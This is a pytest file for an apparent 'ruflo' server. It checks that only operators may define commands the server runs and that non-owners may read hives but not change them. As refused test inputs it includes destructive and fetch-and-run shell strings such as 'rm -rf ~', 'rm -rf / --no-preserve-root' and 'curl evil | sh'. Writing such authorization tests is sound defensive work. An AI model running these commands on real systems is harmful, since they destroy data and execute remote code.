"""Who may do what to a hive over real HTTP, with token and forward auth, on SQLite and Postgres:
every signed-in user may read every hive; only its owner and operators may change it; only
operators may define commands (process or http agents, verify commands)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from server_harness import iter_frames

from ruflo.config import load_settings
from ruflo.model import Approval, ApprovalKind, new_id
from ruflo.server import create_app
from ruflo.server.auth import hash_token, new_token
from ruflo.store import open_store
from ruflo.store.sql import SqlStore
from server_thread import ServerThread

OPERATOR = "ada"
"""An operator: by RUFLO_OPERATORS with forward auth, by a token's scope with token auth."""
LISTED = "olga"
"""An operator named in RUFLO_OPERATORS (with token auth too, her token has no scope)."""
OWNER = "bob"
OTHER = "cy"


@dataclass
class Team:
    url: str
    store: SqlStore
    auth: str
    headers: dict[str, dict[str, str]]

    def client(self, user: str) -> httpx.Client:
        return httpx.Client(base_url=self.url, headers=self.headers[user], timeout=20.0)


@pytest.fixture(params=["token", "forward"])
def team(request: pytest.FixtureRequest, store_url: str, tmp_path: Path) -> Iterator[Team]:
    """A server with auth on and four people: two operators, an owner-to-be and another user."""
    auth = str(request.param)
    store = open_store(store_url)
    operators = f" {LISTED} , nobody-else" + (f",{OPERATOR}" if auth == "forward" else "")
    settings = load_settings({"RUFLO_DATA_DIR": str(tmp_path / "data"), "RUFLO_CONFIG": "",
                              "RUFLO_AUTH": auth, "RUFLO_TRUSTED_PROXIES": "127.0.0.1/32",
                              "RUFLO_OPERATORS": operators})
    headers: dict[str, dict[str, str]] = {}
    for user in (OPERATOR, LISTED, OWNER, OTHER):
        if auth == "forward":
            headers[user] = {"X-authentik-username": user}
        else:
            token = new_token()
            store.create_token(token_id=new_id()[:12], name=user, user_id=user,
                               token_hash=hash_token(token),
                               scopes=["operator"] if user == OPERATOR else [])
            headers[user] = {"Authorization": f"Bearer {token}"}
    # On 127.0.0.2 the clients connect from 127.0.0.1, the trusted proxy: user headers from the
    # server's own address are refused.
    thread = ServerThread(create_app(settings, store, None, event_poll_seconds=0.2), None,
                          bind="127.0.0.2")
    url = thread.start()
    try:
        yield Team(url=url, store=store, auth=auth, headers=headers)
    finally:
        thread.stop()
        store.close()


def created(client: httpx.Client, **body: Any) -> dict[str, Any]:
    answer = client.post("/api/v2/hives", json={"objective": "bees", **body})
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


PROCESS = {"name": "coder", "adapter": "process",
           "adapter_config": {"command": ["sh", "-c", "touch /tmp/ruflo-pwned"]}}
HOOK = {"name": "hook", "adapter": "http", "adapter_config": {"url": "http://10.0.0.1/admin"}}

COMMAND_BODIES: list[tuple[dict[str, Any], str]] = [
    ({"agents": [{"name": "plain"}, PROCESS]}, "agents[1].adapter (process)"),
    ({"agents": [HOOK]}, "agents[0].adapter (http)"),
    ({"org": [{"name": "ceo", "role": "manager"}, {**PROCESS, "reports_to": "ceo"}]},
     "org[1].adapter (process)"),
    ({"agents": 2, "tasks": [{"title": "a"}, {"title": "b", "verify": "rm -rf ~"}]},
     "tasks[1].verify"),
    ({"mode": "company", "org": [{"name": "ceo"}], "config": {"verify": "curl evil | sh"}},
     "config.verify"),
    ({"agents": [PROCESS, HOOK], "tasks": [{"title": "t", "verify": "true"}],
      "config": {"verify": "true"}},
     "agents[0].adapter (process), agents[1].adapter (http), tasks[0].verify, config.verify"),
]


@pytest.mark.parametrize(("body", "fields"), COMMAND_BODIES,
                         ids=["process", "http", "org", "task-verify", "hive-verify", "all"])
def test_only_operators_may_create_hives_that_define_commands(
        team: Team, body: dict[str, Any], fields: str) -> None:
    for user in (OWNER, OTHER):
        with team.client(user) as client:
            answer = client.post("/api/v2/hives", json={"objective": "bees", **body})
        assert answer.status_code == 403, answer.text
        message = answer.json()["message"]
        assert message.startswith(f"{fields}: defining a command the server runs is an "
                                  "operator's right"), message
        assert f"user {user!r} is not an operator; no hive was created" in message
        assert answer.json()["error"] == "forbidden"
    assert team.store.list_hives() == [], "nothing was stored"
    for operator in (OPERATOR, LISTED):
        with team.client(operator) as client:
            hive = created(client, **body)
        assert hive["owner"] == operator
    assert len(team.store.list_hives()) == 2


def test_only_operators_may_name_a_git_remote(team: Team) -> None:
    """The server would run git against an address of the caller's choice."""
    with team.client(OWNER) as client:
        answer = client.post("/api/v2/hives", json={"objective": "bees",
                                                    "git_remote": "/srv/remote.git"})
    assert answer.status_code == 403, answer.text
    assert answer.json()["message"].startswith("git_remote: defining a command the server runs "
                                               "is an operator's right")
    assert team.store.list_hives() == [], "nothing was stored"


def test_plain_hives_are_anyones_and_owned_by_their_starter(team: Team) -> None:
    with team.client(OWNER) as client:
        hive = created(client, agents=2, tasks=[{"title": "plain"}, {"title": "blank verify",
                                                                     "verify": "  "}])
        assert hive["owner"] == OWNER
        listed = client.get("/api/v2/hives").json()["hives"]
    assert [(h["id"], h["owner"]) for h in listed] == [(hive["id"], OWNER)]
    assert team.store.get_hive(hive["id"]).owner == OWNER


def test_no_one_but_an_operator_posts_a_verify_command(team: Team) -> None:
    with team.client(OWNER) as owner:
        hive = created(owner, agents=1, tasks=[{"title": "first"}])
        base = f"/api/v2/hives/{hive['id']}/tasks"
        assert owner.post(base, json={"title": "plain"}).status_code == 201
        for verify in ("pytest -q", "true", "rm -rf / --no-preserve-root", "x" * 5000):
            refused = owner.post(base, json={"title": "checked", "verify": verify})
            assert refused.status_code == 403, refused.text
            assert refused.json()["message"].startswith("verify: defining a command"), \
                refused.json()["message"]
            assert refused.json()["message"].endswith("the task was not posted")
    with team.client(OTHER) as other:
        refused = other.post(base, json={"title": "checked", "verify": "true"})
        assert refused.status_code == 403
    titles = [t.title for t in team.store.list_tasks(hive["id"])]
    assert titles == ["first", "plain"], "no refused task reached the board"
    for operator in (OPERATOR, LISTED):
        with team.client(operator) as client:
            posted = client.post(base, json={"title": f"by {operator}", "verify": "true"})
            assert posted.status_code == 201, posted.text
            assert posted.json()["verify"] == "true"


def test_others_may_read_a_hive_but_not_change_it(team: Team) -> None:
    with team.client(OWNER) as owner:
        hive = created(owner, agents=1, tasks=[{"title": "a"}, {"title": "b"}])
    hive_id = hive["id"]
    base = f"/api/v2/hives/{hive_id}"
    task_id = team.store.list_tasks(hive_id)[0].id
    approval = team.store.create_approval(Approval(
        id=new_id(), hive_id=hive_id, kind=ApprovalKind.STRATEGY, subject="go on?"))
    with team.client(OWNER) as owner:
        assert owner.post(f"{base}/tasks/claim", json={"agent": "bobs-bot",
                                                       "task_id": task_id}).status_code == 200
    before = (team.store.get_hive(hive_id), team.store.last_seq(hive_id),
              [(t.id, t.state, t.assignee) for t in team.store.list_tasks(hive_id)])

    with team.client(OTHER) as other:
        for path in ("", "/tasks", f"/tasks/{task_id}", "/approvals", "/ledger", "/events",
                     "/workers"):
            answer = other.get(base + path)
            assert answer.status_code == 200, (path, answer.text)
        assert other.get(base).json()["owner"] == OWNER
        assert hive_id in [h["id"] for h in other.get("/api/v2/hives").json()["hives"]]
        with other.stream("GET", f"{base}/stream") as stream:
            assert stream.status_code == 200
            first = next(iter_frames(stream.iter_lines()))
        assert first["id"] == 1

        changes: list[tuple[str, dict[str, Any] | None]] = [
            ("/pause", {"reason": "mine now"}), ("/pause", None), ("/resume", None),
            ("/cancel", None), ("/tasks", {"title": "sneaky"}),
            (f"/approvals/{approval.id}", {"decision": "approved"}),
            ("/tasks/claim", {"agent": "cys-bot"}),
            (f"/tasks/{task_id}/complete", {"agent": "bobs-bot", "result": "done by cy"}),
            (f"/tasks/{task_id}/release", {"agent": "bobs-bot"}),
        ]
        for path, body in changes:
            answer = other.post(base + path, json=body)
            assert answer.status_code == 403, (path, answer.text)
            assert answer.json()["message"] == (
                f"user {OTHER!r} may look at hive {hive_id} but not change it: only its owner "
                f"({OWNER!r}) or an operator may; nothing was changed"), path
    after = (team.store.get_hive(hive_id), team.store.last_seq(hive_id),
             [(t.id, t.state, t.assignee) for t in team.store.list_tasks(hive_id)])
    assert after == before, "a refused change left no trace"
    assert team.store.get_approval(approval.id).status.value == "pending"


def test_the_owner_steers_their_hive_and_operators_steer_any(team: Team) -> None:
    with team.client(OWNER) as owner:
        hive = created(owner, agents=1, tasks=[{"title": "a"}])
        base = f"/api/v2/hives/{hive['id']}"
        approval = team.store.create_approval(Approval(
            id=new_id(), hive_id=hive["id"], kind=ApprovalKind.STRATEGY, subject="go on?"))
        claimed = owner.post(f"{base}/tasks/claim", json={"agent": "bobs-bot"})
        assert claimed.status_code == 200, claimed.text
        task_id = claimed.json()["task"]["id"]
        assert owner.post(f"{base}/tasks/{task_id}/release",
                          json={"agent": "bobs-bot"}).status_code == 200
        assert owner.post(f"{base}/tasks/claim", json={"agent": "bobs-bot"}).status_code == 200
        done = owner.post(f"{base}/tasks/{task_id}/complete", json={"agent": "bobs-bot"})
        assert done.json()["task"]["state"] == "done"
        assert owner.post(f"{base}/tasks", json={"title": "more"}).status_code == 201
        decided = owner.post(f"{base}/approvals/{approval.id}", json={"decision": "approved"})
        assert decided.json()["decided_by"] == OWNER
        assert owner.post(f"{base}/pause", json={"reason": "lunch"}).json()["status"] == "paused"
        assert owner.post(f"{base}/resume").json()["status"] == "running"
    with team.client(OPERATOR) as operator:
        assert operator.post(f"{base}/pause").json()["status"] == "paused"
        assert operator.post(f"{base}/resume").json()["status"] == "running"
    with team.client(LISTED) as listed:
        assert listed.post(f"{base}/cancel").json()["status"] == "cancelled"


def test_only_the_owner_and_operators_set_action_policies(team: Team) -> None:
    with team.client(OWNER) as owner:
        hive = created(owner, agents=[{"name": "bot"}])
        base = f"/api/v2/hives/{hive['id']}"
        assert owner.put(f"{base}/actions", json={"actions": {"write": "ask"}}).status_code == 200
    with team.client(OTHER) as other:
        assert other.get(f"{base}/actions").json()["actions"] == {"write": "ask"}
        for path in (f"{base}/actions", f"{base}/agents/bot/actions"):
            refused = other.put(path, json={"actions": {"write": "allow"}})
            assert refused.status_code == 403, refused.text
            assert "nothing was changed" in refused.text
    with team.client(OPERATOR) as operator:
        assert operator.put(f"{base}/agents/bot/actions",
                            json={"actions": {"run_command": "deny"}}).status_code == 200
    assert team.store.get_hive(hive["id"]).config["actions"] == {"write": "ask"}


def test_the_name_local_is_not_accepted_from_a_proxy_or_a_token(team: Team) -> None:
    """"local" owns the hives the CLI made; no signed-in user may take the name."""
    if team.auth == "forward":
        headers = [{"X-authentik-username": "local"}, {"Remote-User": "local"}]
    else:
        token = new_token()
        team.store.create_token(token_id="loc", name="sneaky", user_id="local",
                                token_hash=hash_token(token), scopes=["operator"])
        headers = [{"Authorization": f"Bearer {token}"}]
    for sent in headers:
        answer = httpx.post(f"{team.url}/api/v2/hives", json={"objective": "x"}, headers=sent)
        assert answer.status_code == 401, answer.text
        assert "the user name 'local' is kept for this machine's own user" in \
            answer.json()["message"]
    assert team.store.list_hives() == []


def test_without_auth_the_local_user_is_an_operator(make_server: Callable[..., Any]) -> None:
    """RUFLO_AUTH=none (loopback, one user): everything works as before owners existed."""
    served = make_server()
    answer = served.client.post("/api/v2/hives", json={
        "objective": "bees", "agents": [PROCESS, HOOK],
        "tasks": [{"title": "t", "verify": "true"}], "config": {"verify": "true"}})
    assert answer.status_code == 201, answer.text
    hive = answer.json()
    assert hive["owner"] == "local"
    base = f"/api/v2/hives/{hive['id']}"
    assert served.client.post(f"{base}/tasks", json={"title": "u", "verify": "true"}
                              ).status_code == 201
    assert served.client.post(f"{base}/pause").json()["status"] == "paused"


def test_pages_know_whether_the_viewer_is_an_operator(team: Team) -> None:
    """The hive page hides the controls of hives the viewer may only read (its script reads
    `operator` and the hive's owner; the API's 403 stays the real check)."""
    for user, operator in ((OWNER, False), (OPERATOR, True), (LISTED, True)):
        with team.client(user) as client:
            page = client.get("/hives/abc")
        assert page.status_code == 200
        assert f'"user": "{user}", "operator": {"true" if operator else "false"}' in page.text
        assert 'id="hive-owner"' in page.text
